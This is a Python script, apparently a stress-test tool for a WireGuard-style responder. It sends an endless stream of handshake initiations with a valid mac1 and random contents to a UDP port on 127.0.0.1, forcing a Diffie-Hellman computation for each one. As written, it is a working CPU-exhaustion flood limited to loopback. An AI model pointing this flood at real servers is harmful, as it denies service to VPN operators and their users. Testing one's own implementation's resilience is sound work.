#!/usr/bin/env python3
"""Initiations with a valid mac1 and nothing else that is right, as fast as they go: flood.py RESPONDER_KEY PORT.

Each costs the responder on 127.0.0.1 a Diffie-Hellman before it can tell. Runs until it is ended.
"""

import base64
import hashlib
import os
import socket
import sys


def initiation(responder):
    """An initiation: type, sender, ephemeral, static and timestamp at random, mac1 as whitepaper 5.4.4 has it, no mac2."""
    message = bytes([1, 0, 0, 0]) + os.urandom(112)
    key = hashlib.blake2s(b"mac1----" + responder).digest()
    return message + hashlib.blake2s(message, key=key, digest_size=16).digest() + bytes(16)


def main():
    responder, port = base64.b64decode(sys.argv[1]), int(sys.argv[2])
    messages = [initiation(responder) for _ in range(64)]
    flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flood.connect(("127.0.0.1", port))
    while True:
        for message in messages:
            try:
                flood.send(message)
            except OSError:
                pass


main()
